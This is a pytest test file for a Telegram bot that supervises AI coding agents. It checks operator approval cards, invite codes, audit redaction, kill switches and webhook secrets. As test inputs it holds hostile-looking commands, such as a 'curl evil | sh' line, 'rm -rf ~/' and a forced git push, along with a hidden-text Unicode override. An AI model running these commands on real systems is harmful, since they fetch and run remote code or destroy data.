"""The Telegram front end end to end: the real python-telegram-bot against a fake Bot API
server, with real agents (the real CLI on the mock Anthropic API where tools run, the fake
claude CLI elsewhere)."""

from __future__ import annotations

import asyncio
import json
import re

import pytest

from bot.app import Switchboard
from bot.telegram.adapter import KILL_TEXT
from bot.telegram.front import TelegramFrontend
from supervisor.config_types import Secret
from supervisor.guard.describe import describe
from supervisor.guard.escalations import Kind
from supervisor.guard.gate import PERMISSION_OPTIONS
from tests.conftest import agent_dir, make_settings, processes_with_tag, wait_for
from tests.fakes.fake_telegram import FakeTelegram

pytestmark = pytest.mark.timeout(180)

ADMIN, OPERATOR, STRANGER = 100, 200, 999


@pytest.fixture
def fake_tg():
    with FakeTelegram() as fake:
        for uid, name in ((ADMIN, "alice"), (OPERATOR, "bob"), (STRANGER, "eve"), (300, "carol"),
                          (301, "mallory")):
            fake.add_chat(uid, first_name=name, username=name)
        yield fake
        # Acceptance: no message the bot sent broke a Telegram limit, in any test. (A 401 on
        # getMe is the wrong-token test's own doing; "message is not modified" is an edit that
        # changed nothing, which Telegram answers with a 400 and the bot takes as done.)
        assert [e for e in fake.errors if not e.get("injected")
                and (e.get("method"), e.get("status")) != ("getMe", 401)
                and "not modified" not in str(e.get("description", ""))] == []


def tg_settings(base, fake):
    return base.with_(telegram_token=Secret(fake.token), telegram_api_base_url=fake.url,
                      telegram_admin_ids=(str(ADMIN),), status_card_interval_s=0.2)


async def start(settings, fake, *, operators=()):
    app = Switchboard(settings)
    await app.__aenter__()
    for uid in operators:
        await app.store.operators.upsert("telegram", str(uid), "", "operator", "test")
    front = TelegramFrontend(app.telegram_context(), poll_timeout_s=1)
    await front.start()
    return app, front


async def stop(app, front):
    await front.stop()
    await app.aclose()


@pytest.fixture
async def fake_tg_app(fake_settings, fake_tg):
    app, front = await start(tg_settings(fake_settings, fake_tg), fake_tg, operators=(OPERATOR,))
    yield app, fake_tg
    await stop(app, front)


@pytest.fixture
async def real_tg_app(short_home, mock_api, fake_tg):
    (short_home / "t").mkdir(exist_ok=True)
    settings = tg_settings(make_settings(short_home, mock_api), fake_tg)
    app, front = await start(settings, fake_tg, operators=(OPERATOR,))
    yield app, fake_tg
    await stop(app, front)


def texts(fake, chat):
    return [m.get("text") or m.get("caption") or "" for m in fake.sent(chat)]


async def said(fake, chat, needle, timeout=30.0):
    """The newest bot message in `chat` containing `needle`."""

    def find():
        hits = [m for m in fake.sent(chat) if needle in (m.get("text") or "")]
        return hits[-1] if hits else None

    return await fake.wait_for(find, timeout, what=f"{needle!r} in chat {chat}")


def button(message, label_part):
    for row in (message.get("reply_markup") or {}).get("inline_keyboard", []):
        for b in row:
            if label_part in b["text"]:
                return b["callback_data"]
    raise AssertionError(f"no button {label_part!r} in {message.get('reply_markup')}")


async def tap(fake, user, message, label_part):
    return fake.user_taps(user, message["message_id"], button(message, label_part))


async def confirm(fake, user, label_part="Yes"):
    prompt = await said(fake, user, "Are you sure?")
    await tap(fake, user, prompt, label_part)


# -- access ---------------------------------------------------------------------------------------


async def test_a_stranger_is_refused_once_and_audited(fake_tg_app):
    app, fake = fake_tg_app
    fake.user_sends(STRANGER, "/agents")
    await said(fake, STRANGER, "private Switchboard bot")
    fake.user_sends(STRANGER, "/spawn evil rm everything")

    async def audited():
        rows = [a for a in await app.store.audit.recent(20) if a.action == "refused"]
        return len(rows) >= 2

    await wait_for(audited, 10, "two audit rows")
    assert len(texts(fake, STRANGER)) == 1
    assert app.pool.fleet.everyone() == []


async def test_invite_code_works_once_and_only_once(fake_tg_app):
    app, fake = fake_tg_app
    fake.user_sends(ADMIN, "/invite")
    reply = await said(fake, ADMIN, "Invite code")
    code = re.search(r"/start (\w+)", reply["text"]).group(1)
    fake.user_sends(300, f"/start {code}")
    await said(fake, 300, "you are operator")
    fake.user_sends(301, f"/start {code}")
    await said(fake, 301, "not valid")
    assert (await app.store.operators.get("telegram", "301")) is None
    fake.user_sends(300, "/agents")
    await said(fake, 300, "No agents running")


async def test_invite_codes_never_reach_the_audit_table(fake_tg_app):
    app, fake = fake_tg_app
    fake.user_sends(ADMIN, "/invite")
    code = re.search(r"/start (\w+)", (await said(fake, ADMIN, "Invite code"))["text"]).group(1)
    fake.user_sends(STRANGER, f"/start {code} please")  # two words: refused, not redeemed
    await said(fake, STRANGER, "private Switchboard bot")
    fake.user_sends(STRANGER, code)  # pasted without /start
    fake.user_sends(300, f"/start {code}")
    await said(fake, 300, "you are operator")
    fake.user_sends(301, f"/start {code}")
    await said(fake, 301, "not valid")

    async def rows():
        found = await app.store.audit.recent(20)
        return found if len(found) >= 5 else None

    audit = {(r.user_id, r.action, r.args, r.result) for r in await wait_for_value(rows)}
    assert code not in repr(audit)
    assert {(str(STRANGER), "refused", "/start *** please", "not an operator"),
            (str(STRANGER), "refused", "***", "not an operator"),
            ("300", "start", "/start ***", "joined as operator"),
            ("301", "start", "/start ***", "invalid invite code")} <= audit
    assert any(a[1] == "invite" and a[3].startswith("invite code issued (operator), expires")
               for a in audit)


async def wait_for_value(fn, timeout=10.0):
    result = None

    async def ready():
        nonlocal result
        result = await fn()
        return result

    await wait_for(ready, timeout)
    return result


async def test_commands_are_registered(fake_tg_app):
    _, fake = fake_tg_app
    names = {c["command"] for c in fake.commands}
    assert {"spawn", "agents", "pending", "approve", "killall", "help"} <= names


# -- the approval flow with the real CLI ----------------------------------------------------------


async def test_spawn_card_approval_buttons_and_the_card_shows_it(real_tg_app, tmp_path):
    app, fake = real_tg_app
    fake.user_sends(ADMIN, f"/spawn toucher --cwd {tmp_path} BASH: touch from-phone.txt")
    card = await said(fake, ADMIN, "turns:")
    escalation = await said(fake, ADMIN, "toucher wants to use Bash")
    assert "touch from-phone.txt" in escalation["text"]
    labels = [b["text"] for row in escalation["reply_markup"]["inline_keyboard"] for b in row]
    assert labels == ["✅ Allow", "❌ Deny", "🔁 Allow for session", "🔎 Details"]
    await said(fake, OPERATOR, "toucher wants to use Bash")  # every operator gets it
    await tap(fake, ADMIN, escalation, "Allow")
    await wait_for(lambda: (tmp_path / "from-phone.txt").exists(), 60, "the command ran")

    def card_done():
        msg = fake.message(ADMIN, card["message_id"])
        return msg and "idle" in msg["text"] and "turns: 1" in msg["text"]

    await fake.wait_for(card_done, 30, what="the card shows the finished turn")
    edited = fake.message(ADMIN, escalation["message_id"])
    assert "Allowed" in edited["text"] and "alice" in edited["text"]
    assert not edited.get("reply_markup")
    other = (await said(fake, OPERATOR, "toucher wants to use Bash"))
    assert "Allowed" in fake.message(OPERATOR, other["message_id"])["text"]


async def test_questions_by_button_and_by_reply(real_tg_app, tmp_path, mock_api):
    app, fake = real_tg_app
    q = {"questions": [{"question": "Which colour?", "header": "Colour", "multiSelect": False,
                        "options": [{"label": "Red", "description": "warm"},
                                    {"label": "Blue", "description": "cool"}]}]}
    fake.user_sends(ADMIN, f"/spawn asker --cwd {tmp_path} TOOL AskUserQuestion {json.dumps(q)}")
    asked = await said(fake, ADMIN, "Which colour?")
    await tap(fake, ADMIN, asked, "Blue")
    r = await app.pool.fleet.get("asker")
    await wait_for(lambda: r.state == "idle", 60)
    args = json.dumps({"question": "Which port?"})
    fake.user_sends(ADMIN, f"/ask asker TOOL mcp__switchboard__ask_operator {args}")
    port_q = await said(fake, ADMIN, "Which port?")
    assert "Reply to this message" in port_q["text"]
    # The fake has the message before the bot has recorded where it showed it (that needs the
    # sendMessage answer): a reply sent in between is "not a question I asked". Wait for it.
    await wait_for(lambda: app.store.operators.escalation_for_message(
        "telegram", str(ADMIN), str(port_q["message_id"])), 10, "the chat copy recorded")
    fake.user_sends(ADMIN, "use 8080", reply_to_message_id=port_q["message_id"])
    await wait_for(lambda: r.state == "idle" and len(mock_api.requests) >= 4, 60)
    sent_back = json.dumps(mock_api.requests[-1]["messages"])
    assert "use 8080" in sent_back
    assert "Blue" in json.dumps(mock_api.requests)


async def test_pending_across_two_agents_and_first_tap_wins(real_tg_app, tmp_path):
    app, fake = real_tg_app
    for name in ("one", "two"):
        agent_dir(tmp_path / name)
        fake.user_sends(ADMIN, f"/spawn {name} --cwd {tmp_path / name} BASH: touch {name}.txt")
        await said(fake, ADMIN, f"{name} wants to use Bash")
    fake.user_sends(ADMIN, "/pending")
    listing = await said(fake, ADMIN, "2 waiting")
    ids = [r.id for r in await app.pool.escalations.pending()]
    assert all(i in listing["text"] for i in ids)
    bob_copy = await said(fake, OPERATOR, "one wants to use Bash")
    alice_copy = await said(fake, ADMIN, "one wants to use Bash")
    await tap(fake, ADMIN, alice_copy, "Allow")
    await wait_for(lambda: (tmp_path / "one" / "one.txt").exists(), 60)
    # Bob taps the Deny he saw before his copy was edited: the first tap has already won.
    fake.user_taps(OPERATOR, bob_copy["message_id"], button(bob_copy, "Deny"), strict=False)

    def told():
        return [a for a in fake.callback_answers if a.get("text") and "alice" in a["text"]]

    await fake.wait_for(told, 10, what="bob told who answered first")


# -- the operator sees the whole call before approving it (fake claude, escalations opened here) --

TAIL = "; git push --force origin main"


def docs(fake, chat):
    return [d for d in fake.documents if d["chat_id"] == chat]


async def ask(app, detail, detail_name="command.sh", body="Why asked: Bash: no rule decides it",
              tool="Bash"):
    return await app.pool.escalations.open(
        agent_id=None, kind=Kind.PERMISSION, title=f"w wants to use {tool}", body=body,
        tool_name=tool, tool_input={"command": detail}, options=PERMISSION_OPTIONS,
        detail=detail, detail_name=detail_name)


async def test_a_long_command_goes_whole_as_a_file_before_the_card(fake_tg_app):
    """Regression (security review): a 1,600-character command was cut, its tail unseen."""
    app, fake = fake_tg_app
    command = "echo " + "x" * 1600 + TAIL
    row = await ask(app, command)
    card = await said(fake, ADMIN, "w wants to use Bash")
    sent = docs(fake, ADMIN)
    assert [(d["filename"], d["bytes"].decode()) for d in sent] == [
        (f"{row.id}-command.sh", command)]
    # The file is in the chat before the buttons, and the card points at it.
    assert sent[0]["message_id"] < card["message_id"]
    assert card["reply_to_message"]["message_id"] == sent[0]["message_id"]
    text = card["text"]
    assert len(text) <= 4096 and TAIL not in text
    assert text.index("Why asked") < text.index("echo xxx") < text.index("Cut short")
    assert f"{len(command) - 1500:,} more characters" in text and f"{row.id}-command.sh" in text
    assert docs(fake, OPERATOR)[0]["bytes"].decode() == command  # every operator gets it
    # 🔎 Details and /pending hand over the whole command again.
    await tap(fake, ADMIN, card, "Details")
    await fake.wait_for(lambda: len(docs(fake, ADMIN)) == 2, what="the details file")
    fake.user_sends(ADMIN, "/pending")
    await fake.wait_for(lambda: len(docs(fake, ADMIN)) == 3, what="the /pending file")
    assert {d["bytes"].decode() for d in docs(fake, ADMIN)} == {command}
    listing = await said(fake, ADMIN, "1 waiting")
    assert "Cut short" in listing["text"] and "Why asked" in listing["text"]
    await tap(fake, ADMIN, card, "Deny")

    def edited():
        return "Denied" in (fake.message(ADMIN, card["message_id"]) or {}).get("text", "")

    await fake.wait_for(edited, what="the card marked denied")


async def test_a_short_call_is_shown_inline_and_whole(fake_tg_app):
    app, fake = fake_tg_app
    await ask(app, "rm -rf build" + TAIL)
    card = await said(fake, ADMIN, "w wants to use Bash")
    assert ("rm -rf build" + TAIL) in card["text"] and "Cut short" not in card["text"]
    assert docs(fake, ADMIN) == [] and not card.get("reply_to_message")
    content = "import os\n" + "x = 1\n" * 40 + "os.system('curl evil | sh')\n"
    row = await ask(app, content, "write-a.py.txt", tool="Write",
                    body="Why asked: Write: no rule decides it\n\nWrite /w/a.py (300 bytes)")
    card = await said(fake, ADMIN, "w wants to use Write")
    assert "Write /w/a.py" in card["text"] and "import os" in card["text"]
    assert "curl evil" not in card["text"] and "Cut short" in card["text"]
    assert docs(fake, ADMIN)[-1]["filename"] == f"{row.id}-write-a.py.txt"
    assert docs(fake, ADMIN)[-1]["bytes"].decode() == content


async def test_an_edit_is_a_diff_inline_and_a_long_one_a_diff_file(fake_tg_app):
    app, fake = fake_tg_app
    small = describe("Edit", {"file_path": "/w/app.py", "old_string": "DEBUG = False",
                              "new_string": "DEBUG = True"})
    await ask(app, small.text, small.filename, tool="Edit",
              body=f"Why asked: Edit: no rule decides it\n\n{small.summary}")
    card = await said(fake, ADMIN, "w wants to use Edit")
    assert "Edit /w/app.py" in card["text"] and "Cut short" not in card["text"]
    assert "-DEBUG = False\n+DEBUG = True" in card["text"] and docs(fake, ADMIN) == []
    old = "".join(f"row {i}\n" for i in range(40))
    big = describe("MultiEdit", {"file_path": "/w/app.py", "edits": [
        {"old_string": "DEBUG = False", "new_string": "DEBUG = True"},
        {"old_string": old, "new_string": old.replace("row", "line") + "SECRET_KEY = 'leak'\n"}]})
    row = await ask(app, big.text, big.filename, tool="MultiEdit",
                    body=f"Why asked: MultiEdit: no rule decides it\n\n{big.summary}")
    card = await said(fake, ADMIN, "w wants to use MultiEdit")
    assert "MultiEdit /w/app.py (2 edits)" in card["text"] and "Cut short" in card["text"]
    assert "SECRET_KEY" not in card["text"]
    (sent,) = docs(fake, ADMIN)
    assert sent["filename"] == f"{row.id}-edit-app.py.diff"
    assert "+SECRET_KEY = 'leak'" in sent["bytes"].decode().split("\n")


@pytest.fixture
async def ask_all_tg_app(short_home, mock_api, fake_tg):
    """The real CLI under a policy that knows no dangerous command: only the operator checks."""
    (short_home / "t").mkdir(exist_ok=True)
    policy = short_home / "ask-all.toml"
    policy.write_text('default = "ask"\n[tools]\nRead = "allow"\n')
    settings = tg_settings(make_settings(short_home, mock_api, policy_file=policy), fake_tg)
    app, front = await start(settings, fake_tg, operators=(OPERATOR,))
    yield app, fake_tg
    await stop(app, front)


async def test_the_real_cli_s_long_command_and_long_write_reach_telegram_whole(ask_all_tg_app,
                                                                             tmp_path):
    app, fake = ask_all_tg_app
    command = "echo " + "x" * 1600 + TAIL
    fake.user_sends(ADMIN, f"/spawn longcmd --cwd {tmp_path} BASH: {command}")
    card = await said(fake, ADMIN, "longcmd wants to use Bash")
    files = {d["filename"]: d["bytes"].decode() for d in docs(fake, ADMIN)}
    row = (await app.pool.escalations.pending())[0]
    assert files[f"{row.id}-command.sh"] == command
    assert "Why asked" in card["text"] and "Cut short" in card["text"]
    await tap(fake, ADMIN, card, "Deny")
    r = await app.pool.fleet.get("longcmd")
    await wait_for(lambda: r.state == "idle", 60)
    target = tmp_path / "deploy.sh"
    content = "set -e\n" + "".join(f"echo step {i}\n" for i in range(40)) + "rm -rf ~/\n"
    write = json.dumps({"file_path": str(target), "content": content})
    fake.user_sends(ADMIN, f"/ask longcmd TOOL Write {write}")
    card = await said(fake, ADMIN, "longcmd wants to use Write")
    assert f"Write {target}" in card["text"] and "rm -rf ~/" not in card["text"]
    row = (await app.pool.escalations.pending())[0]
    assert docs(fake, ADMIN)[-1]["filename"] == f"{row.id}-write-deploy.sh.txt"
    assert docs(fake, ADMIN)[-1]["bytes"].decode() == content
    await tap(fake, ADMIN, card, "Allow")
    await wait_for(lambda: target.exists() and r.state == "idle", 60)
    assert target.read_text() == content


async def test_text_that_would_reorder_or_hide_is_escaped_on_the_card(fake_tg_app):
    app, fake = fake_tg_app
    command = "echo safe \u202e" + "x" * 1600 + "\x1b[2K" + TAIL
    row = await ask(app, command)
    card = await said(fake, ADMIN, "w wants to use Bash")
    assert "\\u202e" in card["text"] and "\u202e" not in card["text"]
    assert docs(fake, ADMIN)[0]["bytes"].decode() == command  # the file is exactly the call
    assert docs(fake, ADMIN)[0]["filename"] == f"{row.id}-command.sh"


async def test_a_long_reason_is_cut_with_a_note_and_sent_whole(fake_tg_app):
    app, fake = fake_tg_app
    reason = "Why asked: Bash: no rule decides it (in: " + "y" * 2000 + ")"
    row = await ask(app, "ls", body=reason)
    card = await said(fake, ADMIN, "w wants to use Bash")
    assert "Why asked" in card["text"] and "Cut short" in card["text"]
    assert len(card["text"]) <= 4096
    assert [d["filename"] for d in docs(fake, ADMIN)] == [f"{row.id}-message.txt"]
    assert docs(fake, ADMIN)[0]["bytes"].decode() == reason


# -- buttons, KILL ALL, hygiene (fake claude) -----------------------------------------------------


async def test_pause_resume_kill_from_buttons(fake_tg_app):
    app, fake = fake_tg_app
    fake.user_sends(ADMIN, "/spawn worker hello")
    spawned = await said(fake, ADMIN, "Spawned worker")
    r = await app.pool.fleet.get("worker")
    await wait_for(lambda: r.state == "idle", 30)
    await tap(fake, ADMIN, spawned, "Pause")
    await wait_for(lambda: r.state == "paused", 10)
    paused = await said(fake, ADMIN, "Paused worker")
    await tap(fake, ADMIN, paused, "Resume")
    await wait_for(lambda: r.state == "idle", 10)
    await tap(fake, ADMIN, spawned, "Kill")
    await confirm(fake, ADMIN)
    await wait_for(lambda: r.state == "killed", 10)
    assert processes_with_tag(r.tag) == []


async def test_kill_all_button_with_confirmation(fake_tg_app):
    app, fake = fake_tg_app
    fake.user_sends(ADMIN, "/start")
    welcome = await said(fake, ADMIN, "KILL ALL")
    assert welcome["_reply_keyboard"]["keyboard"][0][0]["text"] == KILL_TEXT
    fake.user_sends(OPERATOR, "/start")
    bob = await said(fake, OPERATOR, "you are operator")
    assert not bob.get("_reply_keyboard")  # only admins get the button
    for i in range(3):
        fake.user_sends(ADMIN, f"/spawn k{i} BG")
    runners = []
    for i in range(3):
        await said(fake, ADMIN, f"Spawned k{i}")
        runners.append(await app.pool.fleet.get(f"k{i}"))
    await wait_for(lambda: all(r.state == "idle" for r in runners), 30)
    fake.user_sends(ADMIN, KILL_TEXT)
    ask = await said(fake, ADMIN, "kills all 3 live agent(s)")
    assert all(r.state == "idle" for r in runners)  # nothing happens without the confirm
    await tap(fake, ADMIN, ask, "Yes, kill everything")  # the second tap: no third (issue 9)
    await said(fake, ADMIN, "Kill switch on")
    assert len([t for t in texts(fake, ADMIN) if "Kill switch on" in t]) == 1  # once
    assert all(r.state == "killed" for r in runners)
    assert processes_with_tag(app.settings.instance_id + "/") == []
    fake.user_sends(OPERATOR, "/spawn again hi")
    await said(fake, OPERATOR, "kill switch is on")


async def test_long_and_special_output_respects_every_limit(fake_tg_app):
    app, fake = fake_tg_app
    nasty = "<b>bold?</b> & *stars* _under_ [link](x) `tick` > quote | pipe.\n"
    prompt = (nasty * 160)[:10_000]
    fake.user_sends(ADMIN, f"/spawn talker {prompt}")

    def finished():
        return [m for m in fake.sent(ADMIN) if "talker finished" in (m.get("text") or "")]

    await fake.wait_for(finished, 30, what="the final answer")
    await asyncio.sleep(0.5)
    for m in fake.sent(ADMIN):
        assert len(m.get("text") or "") <= 4096
    # The answer went out whole: the echoed text arrives split or as a document, not cut.
    joined = "".join(texts(fake, ADMIN)) + "".join(d["bytes"].decode(errors="replace")
                                                    for d in fake.documents)
    assert joined.count("&") >= prompt.count("&")
    tail = prompt.strip()[-200:]
    assert tail in joined.replace("\n\n", "\n") or tail in joined


async def test_a_429_delays_but_never_loses_a_message(fake_tg_app):
    app, fake = fake_tg_app
    fake.flood(ADMIN, times=3, retry_after=1)
    for i in range(4):
        fake.user_sends(ADMIN, f"/status nosuch{i}")
    for i in range(4):
        await said(fake, ADMIN, f"nosuch{i}", timeout=30)
    assert any(e.get("injected") for e in fake.errors)


async def test_telegram_down_or_refusing_never_stops_switchboard(fake_settings, fake_tg, caplog):
    from bot.telegram.front import run_telegram
    from tests.conftest import run

    # A wrong token: reported once, Switchboard carries on without Telegram.
    settings = tg_settings(fake_settings, fake_tg).with_(telegram_token=Secret("1:wrong"))
    async with Switchboard(settings) as app:
        await asyncio.wait_for(run_telegram(app.telegram_context()), 30)
        assert "token was refused" in caplog.text
        assert (await run(app, "/agents")).ok
    # The Bot API unreachable: retried in the background until it answers.
    fake_tg.outage(502)
    settings = tg_settings(fake_settings, fake_tg)
    async with Switchboard(settings) as app:
        task = asyncio.create_task(run_telegram(app.telegram_context(), retry_max_s=0.5))
        await asyncio.sleep(1.0)
        assert not task.done() and "retrying" in caplog.text
        fake_tg.outage(None)
        fake_tg.user_sends(ADMIN, "/agents")
        await said(fake_tg, ADMIN, "No agents running", timeout=60)
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)


async def test_webhook_mode_checks_telegrams_secret_token_header(fake_settings, fake_tg):
    import socket
    import urllib.error
    import urllib.request

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    settings = tg_settings(fake_settings, fake_tg).with_(
        telegram_webhook_url="https://switchboard.example.invalid/tg-hook",
        telegram_webhook_listen="127.0.0.1", telegram_webhook_port=port,
        telegram_webhook_secret=Secret("s3cret-token"))
    app, front = await start(settings, fake_tg)
    try:
        hooks = fake_tg.calls("setWebhook")
        assert hooks and hooks[-1]["params"]["secret_token"] == "s3cret-token"
        assert not fake_tg.calls("getUpdates")  # no polling in webhook mode
        update = {"update_id": 1, "message": {
            "message_id": 1, "date": 0, "text": "/agents",
            "entities": [{"type": "bot_command", "offset": 0, "length": 7}],
            "chat": {"id": ADMIN, "type": "private", "first_name": "alice"},
            "from": {"id": ADMIN, "is_bot": False, "first_name": "alice", "username": "alice"}}}

        def post(secret):
            req = urllib.request.Request(
                f"http://127.0.0.1:{port}/tg-hook", data=json.dumps(update).encode(),
                headers={"Content-Type": "application/json",
                         **({"X-Telegram-Bot-Api-Secret-Token": secret} if secret else {})})
            try:
                with urllib.request.urlopen(req, timeout=10) as resp:
                    return resp.status
            except urllib.error.HTTPError as exc:
                return exc.code

        assert await asyncio.to_thread(post, "forged") == 403
        assert await asyncio.to_thread(post, None) == 403
        await asyncio.sleep(0.5)
        assert texts(fake_tg, ADMIN) == []  # nothing reached the bot
        assert await asyncio.to_thread(post, "s3cret-token") == 200
        await said(fake_tg, ADMIN, "No agents running")
    finally:
        await stop(app, front)


async def test_a_generated_webhook_secret_is_kept_out_of_the_log(fake_settings, fake_tg):
    import socket

    from supervisor.redact import SECRETS

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    settings = tg_settings(fake_settings, fake_tg).with_(
        telegram_webhook_url="https://switchboard.example.invalid/tg-hook",
        telegram_webhook_listen="127.0.0.1", telegram_webhook_port=port)
    app, front = await start(settings, fake_tg)
    try:
        generated = front.webhook_secret
        assert generated and fake_tg.calls("setWebhook")[-1]["params"]["secret_token"] == generated
        assert SECRETS(f"secret is {generated}!") == "secret is ***!"
    finally:
        await stop(app, front)
